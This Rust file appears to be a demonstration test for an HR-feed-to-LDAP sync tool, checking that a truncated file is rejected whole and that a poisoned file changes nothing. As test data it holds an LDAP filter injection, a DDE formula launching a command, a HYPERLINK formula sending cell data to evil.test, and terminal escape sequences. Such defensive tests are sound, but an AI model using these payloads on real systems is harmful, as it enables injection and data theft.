//! Files that must do no harm: a truncated one and a hostile one.

use super::cast::{MASS, user_id};
use super::stage::Show;
use super::{Demo, PEOPLE, watch};
use crate::Done;

const ESCAPES: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}Fired";

impl Demo {
    /// What no output may hold: the beginning of a terminal escape.
    fn is_tame(text: &str) -> bool {
        !text.contains('\u{1b}') && !text.contains('\u{7}')
    }

    pub(super) fn truncated(&mut self) -> Done<()> {
        self.stage.act("A truncated file");
        self.stage.say(
            "The transfer breaks off in the middle of the next file. A file is taken whole or not at all, and \
             nobody is disabled because they are not listed.",
        );
        let before = watch::everything(&self.slapd)?;
        let whole = self.feed(3)?.text()?;
        let half: String = whole.chars().take(whole.chars().count() / 2).collect();
        self.site.drop_file("hr-3.csv", half)?;
        self.stage.prompt("mv hr-3.csv inbox/");
        self.site.wait_for("the truncated file is rejected", || {
            Ok(self.site.receipt("rejected", "hr-3.csv").is_ok())
        })?;
        let receipt = self.site.receipt("rejected", "hr-3.csv")?;
        self.stage.prompt("cat rejected/*hr-3.csv.receipt.txt");
        self.stage.output(&receipt, Show::All);
        self.stage
            .claim(receipt.contains("REJECTED WHOLE"), "the truncated file was rejected whole");
        let same = before == watch::everything(&self.slapd)?;
        self.stage.claim(same, "nothing in the directory was written");
        Ok(())
    }

    pub(super) fn hostile(&mut self) -> Done<()> {
        self.stage.act("A hostile file");
        self.stage.say(&format!(
            "The next file is complete, and poisoned: an employee number that is an LDAP filter, a name that is \
             a spreadsheet formula, a status that would take over a terminal. And somebody at HR has mapped a \
             code wrongly: {MASS} people who work here are now \"Former employee\".",
        ));
        let before = watch::everything(&self.slapd)?;
        let yesterday = self.yesterday()?.to_string();
        let mut feed = self.feed(3)?;
        let number = |person: usize| self.agency.people[person].employee_number.clone();
        let gone = [("EMPL_STATUS", "Former employee"), ("LAST_DATE_WORKED", yesterday.as_str())];
        for person in &self.cast.mass {
            feed.change(&number(*person), &gone)?;
        }
        let formula = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Smith\")";
        feed.change(&number(self.cast.formula), &gone)?;
        feed.change(&number(self.cast.formula), &[("LAST_NAME", formula)])?;
        feed.change(&number(self.cast.escapes), &[("EMPL_STATUS", ESCAPES)])?;
        for key in ["*)(uid=*))(|(uid=*", "=cmd|' /C calc'!A0"] {
            feed.add(&[
                ("EMPLID", key),
                ("EMPL_RCD", "0"),
                ("LAST_NAME", "Doe"),
                ("FIRST_NAME", "Jo"),
            ])?;
            feed.change(key, &gone)?;
        }
        self.site.drop_file("hr-4.csv", feed.text()?)?;
        self.stage.prompt("mv hr-4.csv inbox/");
        self.site.wait_for("the hostile file is handled", || {
            let plans = self.site.json(&["plans"])?;
            let held = plans["plans"].as_array().map_or(0, Vec::len);
            Ok(self.site.receipt("accepted", "hr-4.csv").is_ok() && held >= 3)
        })?;
        let receipt = self.site.receipt("accepted", "hr-4.csv")?;
        self.stage.prompt("cat accepted/*hr-4.csv.receipt.txt");
        self.stage.output(&receipt, Show::All);
        self.stage.line("");
        self.lapsed(&["set-aside", "list"], Show::All)?;
        self.lapsed(&["status"], Show::All)?;
        let status = self.site.run(&["status"])?;
        let status = String::from_utf8_lossy(&status.stdout).into_owned();
        let log = std::fs::read_to_string(self.site.path("log"))?;
        let measure = self.site.json(&["status"])?["population"].as_u64();
        let before_it = u64::try_from(PEOPLE - self.notices()?.len()).ok();
        self.stage.claim(
            measure.is_some() && measure == before_it,
            "the guard measures by the file before, not by the poisoned one",
        );
        let tame = [&receipt, &status, &log].into_iter().all(|text| Self::is_tame(text));
        self.stage.claim(tame, "no terminal escape is in the receipt, the status or the log");
        let formula = receipt.lines().any(|line| line.starts_with(['=', '@', '+']));
        self.stage.claim(!formula, "no line of the receipt starts a formula in a spreadsheet");
        let same = before == watch::everything(&self.slapd)?;
        self.stage.claim(
            same,
            format!("not one of the {MASS} was touched: nothing in the directory was written"),
        );
        Ok(())
    }

    /// The held plan of one person, or of many.
    pub(super) fn held_plan(&self, about: &str) -> Done<Option<String>> {
        let plans = self.site.json(&["plans"])?;
        let all = plans["plans"].as_array().cloned().unwrap_or_default();
        let is = |plan: &&serde_json::Value| {
            plan["about"].as_str().is_some_and(|text| text.contains(about))
        };
        Ok(all.iter().find(is).and_then(|plan| plan["hash"].as_str()).map(str::to_owned))
    }

    /// The held plan of the person whose row has another name.
    pub(super) fn mismatch_plan(&self) -> Done<Option<String>> {
        self.held_plan(&user_id(&self.agency, self.cast.mismatch)?)
    }
}
